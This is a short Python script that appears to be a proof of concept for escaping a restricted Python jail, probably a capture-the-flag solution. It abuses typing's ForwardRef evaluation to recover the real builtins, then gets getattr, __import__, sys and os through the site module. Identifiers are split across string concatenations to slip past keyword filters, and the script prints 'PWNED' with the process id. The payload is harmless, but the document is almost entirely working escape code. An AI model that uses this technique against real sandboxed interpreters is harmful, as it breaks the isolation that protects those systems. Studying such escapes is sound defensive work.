# misc: site/sitecustomize are loaded: site's own os and its abs_paths helpers
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

s = rb["__imp" + "ort__"]("sy" + "s")
site = s.modules["site"]
o = ga(site, "o" + "s")
print(M, o.getpid())
